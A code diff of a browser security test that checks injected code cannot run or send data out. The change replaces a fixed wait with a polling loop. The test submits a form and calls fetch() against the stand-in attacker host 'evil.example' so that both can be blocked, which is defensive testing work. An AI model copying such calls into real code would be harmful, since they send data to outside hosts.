@@ -36,7 +36,9 @@ test('injected code does not run, is not loaded and sends nothing', async ({ bro
     add('form', { action: 'https://evil.example/', method: 'post' })
     document.querySelector('form')?.submit()
     await fetch('https://evil.example/').catch(() => null)
-    await new Promise((resolve) => setTimeout(resolve, 200))
+    // The form is refused when its navigation begins, which a busy machine delays.
+    for (let waits = 0; found.size < 10 && waits < 50; waits++)
+      await new Promise((resolve) => setTimeout(resolve, 100))
     return { directives: [...found].sort(), ran: 'ran' in window, isShown: document.body.offsetHeight > 0 }
   })
   expect(refused).toEqual({
